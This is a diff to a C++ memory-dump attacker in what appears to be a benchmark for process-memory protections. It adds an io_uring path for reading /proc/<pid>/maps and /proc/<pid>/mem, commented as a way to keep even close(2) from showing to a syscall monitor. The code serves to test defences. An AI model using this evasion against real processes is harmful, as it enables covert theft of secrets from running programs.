@@ -1,4 +1,4 @@
-// Memory-dump attacker: region walk, the three process read methods, and core-file scanning.
+// Memory-dump attacker: region walk, the four process read methods, and core-file scanning.
 #include "armorbench/attacks/MemoryDumper.h"
 
 #include <elf.h>
@@ -18,6 +18,7 @@
 #include <vector>
 
 #include "armorbench/attacks/CanarySearch.h"
+#include "armorbench/attacks/IoUring.h"
 #include "armorbench/attacks/MemoryRegion.h"
 #include "armorbench/attacks/PtraceSession.h"
 #include "armorbench/base/UniqueFd.h"
@@ -32,7 +33,9 @@ constexpr std::uint64_t kPageSize = 4096;
 // Reads `len` bytes at `address`: bytes read (possibly fewer), or -errno.
 using RangeReader = std::function<long(std::uint64_t address, std::uint8_t* out, std::size_t len)>;
 
-std::string errno_text(int err) { return std::strerror(err); }
+std::string errno_text(int err) {
+  return std::strerror(err);
+}
 
 std::string hex_address(std::uint64_t value) {
   char buf[32];
@@ -56,11 +59,47 @@ int read_text_file(const std::string& path, std::string& out) {
   }
 }
 
+// A file opened through the ring and closed through it too, so that not even close(2) shows.
+class RingFile {
+ public:
+  RingFile(IoUring& ring, int fd) : ring_(ring), fd_(fd) {}
+  RingFile(const RingFile&) = delete;
+  RingFile& operator=(const RingFile&) = delete;
+  ~RingFile() {
+    // Should the ring fail (io_uring_enter denied meanwhile), close(2) still frees the fd.
+    if (fd_ >= 0 && ring_.close(fd_) < 0) ::close(fd_);
+  }
+  int get() const { return fd_; }
+
+ private:
+  IoUring& ring_;
+  int fd_;
+};
+
+// read_text_file through the ring: IORING_OP_OPENAT, IORING_OP_READ at increasing offsets.
+int read_text_file(IoUring& ring, const std::string& path, std::string& out) {
+  const long fd = ring.openat(path.c_str(), O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return static_cast<int>(fd);
+  RingFile file(ring, static_cast<int>(fd));
+  char buf[65536];
+  for (;;) {
+    const long n = ring.read(file.get(), buf, sizeof buf, out.size());
+    if (n == -EINTR) continue;
+    if (n < 0) return static_cast<int>(n);
+    if (n == 0) return 0;
+    out.append(buf, static_cast<std::size_t>(n));
+  }
+}
+
 // Errors after which reading further pages of this target is pointless (or dishonest to keep
 // trying): the enforcer said no, or the target is gone. EFAULT/EIO only mean "this page".
-bool is_fatal_read_error(int err) { return err != EFAULT && err != EIO; }
+bool is_fatal_read_error(int err) {
+  return err != EFAULT && err != EIO;
+}
 
-bool target_alive(pid_t pid) { return ::kill(pid, 0) == 0 || errno == EPERM; }
+bool target_alive(pid_t pid) {
+  return ::kill(pid, 0) == 0 || errno == EPERM;
+}
 
 long read_with_process_vm_readv(pid_t pid, std::uint64_t address, std::uint8_t* out,
                                 std::size_t len) {
@@ -76,6 +115,15 @@ long read_with_pread(int fd, std::uint64_t address, std::uint8_t* out, std::size
     n = ::pread(fd, out, len, static_cast<off_t>(address));
   } while (n < 0 && errno == EINTR);
   return n < 0 ? -errno : n;
+}
+
+long read_with_io_uring(IoUring& ring, int fd, std::uint64_t address, std::uint8_t* out,
+                        std::size_t len) {
+  long n;
+  do {
+    n = ring.read(fd, out, len, address);
+  } while (n == -EINTR);
+  return n;
 }
 
 class RegionWalk {
@@ -216,9 +264,24 @@ ScanResult MemoryDumper::scan(pid_t pid, std::span<const std::uint8_t> canary,
     }
   }
 
+  // The ring must outlive every file opened through it (declared first, destroyed last).
+  std::optional<IoUring> ring;
+  if (method == ReadMethod::kIoUring) {
+    int err = 0;
+    std::string detail;
+    ring = IoUring::create(2, err, detail);
+    if (!ring) {
+      result.add_error("io_uring_setup", err, detail + ": " + errno_text(err));
+      result.failed = true;
+      return finish();
+    }
+  }
+
   const std::string proc = "/proc/" + std::to_string(pid);
   std::string maps_text;
-  if (const int rc = read_text_file(proc + "/maps", maps_text); rc < 0) {
+  if (const int rc = ring ? read_text_file(*ring, proc + "/maps", maps_text)
+                          : read_text_file(proc + "/maps", maps_text);
+      rc < 0) {
     result.add_error("open_maps", -rc, proc + "/maps: " + errno_text(-rc));
     result.failed = true;
     return finish();
@@ -233,10 +296,24 @@ ScanResult MemoryDumper::scan(pid_t pid, std::span<const std::uint8_t> canary,
   }
 
   UniqueFd mem;
+  std::optional<RingFile> ring_mem;
   RangeReader reader;
   if (method == ReadMethod::kProcessVmReadv) {
     reader = [pid](std::uint64_t address, std::uint8_t* out, std::size_t len) {
       return read_with_process_vm_readv(pid, address, out, len);
+    };
+  } else if (ring) {
+    const long fd = ring->openat((proc + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
+    if (fd < 0) {
+      const int err = static_cast<int>(-fd);
+      result.add_error("open_mem", err, proc + "/mem: " + errno_text(err));
+      result.failed = true;
+      return finish();
+    }
+    ring_mem.emplace(*ring, static_cast<int>(fd));
+    reader = [&ring = *ring, fd = ring_mem->get()](std::uint64_t address, std::uint8_t* out,
+                                                   std::size_t len) {
+      return read_with_io_uring(ring, fd, address, out, len);
     };
   } else {
     mem.reset(::open((proc + "/mem").c_str(), O_RDONLY | O_CLOEXEC));
